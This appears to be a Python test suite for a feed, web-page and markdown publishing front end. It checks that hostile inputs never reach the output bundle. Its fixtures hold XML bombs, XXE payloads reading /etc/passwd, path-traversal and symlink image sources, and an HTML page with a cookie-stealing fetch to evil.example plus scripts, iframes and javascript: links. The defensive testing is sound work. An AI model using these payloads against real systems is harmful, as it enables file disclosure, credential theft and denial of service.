"""Hostile input to the publishing front ends: nothing harmful reaches a bundle.

XML bombs and external entities, pages with scripts, iframes, tracking pixels,
remote CSS and `javascript:` links, references to files outside the input;
and without --fetch, no network connection is ever attempted.
"""

from __future__ import annotations

import sys
from pathlib import Path

import feedparser
import pytest

from reader.sources import markdown_items, page_items
from reader.sources.feed import feed_items, parse_feed
from tests.factory import png
from tests.publish.conftest import pack_items

SECRET = "TOP-SECRET-0451"


def _bombs(secret_file: Path) -> dict[str, bytes]:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "' + f"&lol{'' if i == 1 else i - 1};" * 10 + '">' for i in range(1, 10)
    ]
    body = ('<rss version="2.0"><channel><title>&{e};</title><item><title>t &{e};</title>'
            "<description>d &{e};</description></item></channel></rss>")
    return {
        "billion laughs, one line": ('<?xml version="1.0"?><!DOCTYPE rss [' + "".join(lol)
                                     + "]>" + body.format(e="lol9")).encode(),
        "billion laughs, one per line": ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
                                         + "\n".join(lol) + "\n]>\n"
                                         + body.format(e="lol9")).encode(),
        "external entity": ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM '
                            f'"file://{secret_file}">\n]>\n' + body.format(e="xxe")).encode(),
        "external entity, one line": ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM '
                                      f'"file://{secret_file}">]>'
                                      + body.format(e="xxe")).encode(),
        "parameter entity": ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM '
                             f'"file://{secret_file}"> %p;]>' + body.format(e="amp")).encode(),
        "passwd": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                   + body.format(e="x")).encode(),
        "utf-16 bomb": ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss ['
                        + "".join(lol) + "]>" + body.format(e="lol9")).encode("utf-16"),
    }


@pytest.fixture
def secret_file(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def test_xml_bombs_and_external_entities_are_refused_before_parsing(
    tmp_path, secret_file, monkeypatch, no_network
):
    parsed: list[object] = []
    monkeypatch.setattr(feedparser, "parse", lambda *a, **k: parsed.append(a))
    for name, data in _bombs(secret_file).items():
        feed = tmp_path / "feeds" / f"{name}.xml"
        feed.parent.mkdir(exist_ok=True)
        feed.write_bytes(data)
        (item,) = feed_items([str(feed)])
        assert item.draft is None, name
        assert item.error.startswith(str(feed)), item.error
        assert "entities" in item.error or "DOCTYPE" in item.error, item.error
    assert parsed == []  # refused before feedparser saw a byte


@pytest.mark.parametrize("name", ["billion laughs, one per line", "external entity",
                                  "external entity, one line", "passwd", "parameter entity"])
def test_feedparser_alone_does_not_expand_or_read_files(secret_file, name, no_network):
    """What feedparser (expat / sgmllib) does with them, for the record: no file is read."""
    data = _bombs(secret_file)[name]
    result = parse_feed(data)
    text = repr(result)
    assert SECRET not in text and "root:" not in text


HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Hostile page</title>
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="stylesheet" href="hostile_files/local.css">
<style>body {{ background: url(https://evil.example/bg.png) }}</style>
<script src="https://evil.example/tracker.js"></script>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body onload="steal()">
<nav><a href="/">Home</a></nav>
<article>
<h1>Hostile page</h1>
<p onclick="steal()">A journalist's report on the shutdown, with a long paragraph that makes it the
main text of the page: the network went dark at noon and stayed dark for five days, while
people queued at the few places where a connection could still be had.</p>
<p>Second paragraph with a <a href="javascript:steal()">javascript link</a>, a
<a href="data:text/html,<script>alert(1)</script>">data link</a>, a
<a href="https://news.example/ok">real link</a> and <img src="x" onerror="steal()">.</p>
<img src="https://evil.example/pixel.gif" width="1" height="1" alt="">
<img src="hostile_files/pixel.png" width="1" height="1" alt="">
<img src="hostile_files/unmarked-pixel.png" alt="">
<img src="hostile_files/photo.png" alt="A real photo">
<img src="../../../../../../etc/passwd" alt="passwd">
<img src="file:///etc/passwd" alt="file url">
<img src="{secret}" alt="absolute">
<img src="hostile_files/escape.png" alt="symlink">
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/"><input name="q"></form>
<svg><script>alert(1)</script></svg>
<p>Third paragraph: the end of the report, after which come ads and comments that are not part of
the article at all and must be left out of what readers carry.</p>
</article>
<aside class="advert"><p>BUY NOW cheap flights</p></aside>
<section id="comments"><p>comment: first!</p></section>
</body></html>
"""


def test_hostile_page_leaves_nothing_harmful_in_the_bundle(tmp_path, key, secret_file,
                                                           no_network):
    files = tmp_path / "hostile_files"
    files.mkdir()
    (files / "pixel.png").write_bytes(png(1, 1))
    (files / "unmarked-pixel.png").write_bytes(png(1, 1))
    (files / "photo.png").write_bytes(png(60, 40))
    (files / "local.css").write_text("body { background: url(https://evil.example/x) }")
    (files / "escape.png").symlink_to(secret_file)
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_PAGE.format(secret=secret_file), encoding="utf-8")
    packed = pack_items(page_items([str(page)]), tmp_path / "o.satchel", key)
    article = packed.only()
    body = packed.body()
    assert "the network went dark at noon" in body
    for bad in ("<script", "onclick", "onerror", "onload", "<iframe", "<object", "<form",
                "<style", "javascript:", "data:", "evil.example", "stylesheet", "steal",
                "BUY NOW", "first!", "<svg", "refresh"):
        assert bad not in body, bad
    assert '<a href="https://news.example/ok">' in body
    assert packed.images[article.article_id] == [png(60, 40)]  # the photo, not the pixels
    dropped = "\n".join(packed.dropped())
    assert SECRET not in body
    assert "tracking pixel" in dropped


def test_no_file_outside_the_input_is_opened(tmp_path, key, secret_file, no_network):
    """Audit every open() while packing hostile input: nothing outside it, ever."""
    site = tmp_path / "input"
    (site / "page_files").mkdir(parents=True)
    (site / "page_files" / "photo.png").write_bytes(png(30, 30))
    (site / "page_files" / "escape.png").symlink_to(secret_file)
    page = site / "page.html"
    page.write_text(HOSTILE_PAGE.replace("hostile_files", "page_files")
                    .format(secret=secret_file), encoding="utf-8")
    feed = site / "feed.xml"
    feed.write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><language>en</language><item>'
        "<title>F</title><guid>f</guid><description><![CDATA[<p>text</p>"
        f'<img src="../secret.txt"><img src="{secret_file}"><img src="file://{secret_file}">'
        '<img src="page_files/escape.png"><img src="../../../../../../etc/passwd">]]>'
        "</description></item></channel></rss>", encoding="utf-8")
    notes = site / "notes"
    notes.mkdir()
    (notes / "a.md").write_text(
        f"---\ntitle: A\nlanguage: en\n---\nText ![x](../../secret.txt) ![y]({secret_file})\n",
        encoding="utf-8")
    # warm up imports (trafilatura loads its own data files lazily)
    list(page_items([str(page)]))

    opened: list[str] = []
    recording = [True]

    def audit(event: str, args: tuple) -> None:
        if recording[0] and event == "open" and args and isinstance(args[0], str | bytes):
            opened.append(args[0] if isinstance(args[0], str) else args[0].decode())

    sys.addaudithook(audit)
    try:
        items = [*feed_items([str(feed)]), *page_items([str(page)]),
                 *markdown_items([str(notes)])]
    finally:
        recording[0] = False
    assert all(item.draft is not None for item in items)
    inside = str(site.resolve())
    allowed = (inside, sys.prefix, sys.base_prefix, "/usr/lib/python3", "/dev/urandom")
    outside = [p for p in opened if not str(Path(p).resolve()).startswith(allowed)]
    assert any(p.endswith("photo.png") for p in opened), opened  # the hook sees opens
    assert outside == []
    assert not any(str(secret_file) in p or "passwd" in p for p in opened)
    packed = pack_items(items, tmp_path / "o.satchel", key)
    assert not any(SECRET.encode() in b for imgs in packed.images.values() for b in imgs)
    assert all(SECRET not in body for body in packed.bodies.values())


def test_markdown_with_raw_html_is_sanitized(tmp_path, key, no_network):
    (tmp_path / "posts").mkdir()
    (tmp_path / "posts" / "x.md").write_text(
        "---\ntitle: Raw HTML\nlanguage: en\n---\n"
        "Hello <script>alert(1)</script><iframe src='https://e.example'></iframe>\n\n"
        "[click](javascript:alert(1)) <img src=x onerror=alert(1)>\n",
        encoding="utf-8")
    packed = pack_items(markdown_items([str(tmp_path / "posts")]), tmp_path / "o.satchel", key)
    body = packed.body()
    for bad in ("<script", "<iframe", 'href="javascript:', "onerror"):
        assert bad not in body
    assert "Hello" in body


def test_giant_inputs_are_refused_by_size(tmp_path, monkeypatch):
    from reader.sources import feed as feed_module
    from reader.sources import webpage

    monkeypatch.setattr(feed_module, "FEED_BYTES", 1024)
    monkeypatch.setattr(webpage, "PAGE_BYTES", 1024)
    big = tmp_path / "big.xml"
    big.write_bytes(b"<rss>" + b" " * 4096 + b"</rss>")
    page = tmp_path / "big.html"
    page.write_bytes(b"<html>" + b" " * 4096 + b"</html>")
    (item,) = feed_items([str(big)])
    assert "cap" in item.error
    (item,) = page_items([str(page)])
    assert "cap" in item.error


def test_image_sources_of_every_kind(tmp_path):
    import base64
    import os

    from reader.sources.common import ImageResolver, LocalFiles, attach_images

    (tmp_path / "pic.png").write_bytes(png(6, 6))
    (tmp_path / "other.png").write_bytes(png(7, 7))
    os.mkfifo(tmp_path / "pipe.png")  # reading it would block forever
    (tmp_path / "fake.png").write_bytes(b"GIF89a" + b"\xff" * 4 + b"not really")
    inline = base64.b64encode(png(5, 5)).decode()
    html = (f'<p>t</p><img src="pic.png"><img src="data:image/png;base64,{inline}">'
            '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="javascript:alert(1)">'
            '<img src="pipe.png"><img src="fake.png"><img src="//cdn.example/x.png">'
            '<img src="other.png" width="1" height="1">')
    resolver = ImageResolver(local=LocalFiles(tmp_path))
    attached = attach_images(html, resolver)
    assert sorted(attached.images.values()) == sorted([png(6, 6), png(5, 5)])
    assert attached.html.count("<img") == 2
    dropped = "\n".join(attached.dropped)
    assert "not an image" in dropped  # data:text/html
    assert "no such file" in dropped  # the FIFO is not a regular file
    assert "remote image" in dropped  # //cdn.example, without --fetch
    assert "javascript" not in attached.html
    assert "tracking pixel" in dropped  # marked up as 1x1: not even read
    assert "larger than readers accept" in dropped  # a GIF header claiming 65535x65535


def test_external_dtd_naming_a_local_file_is_not_read(tmp_path, key, secret_file, no_network):
    feed = tmp_path / "dtd.xml"
    feed.write_text(
        f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "file://{secret_file}">\n'
        '<rss version="2.0"><channel><title>t</title><language>en</language><item><title>x'
        "</title><guid>x</guid><description>plain text</description></item></channel></rss>",
        encoding="utf-8")
    packed = pack_items(feed_items([str(feed)]), tmp_path / "o.satchel", key)
    assert SECRET not in packed.body() and "plain text" in packed.body()
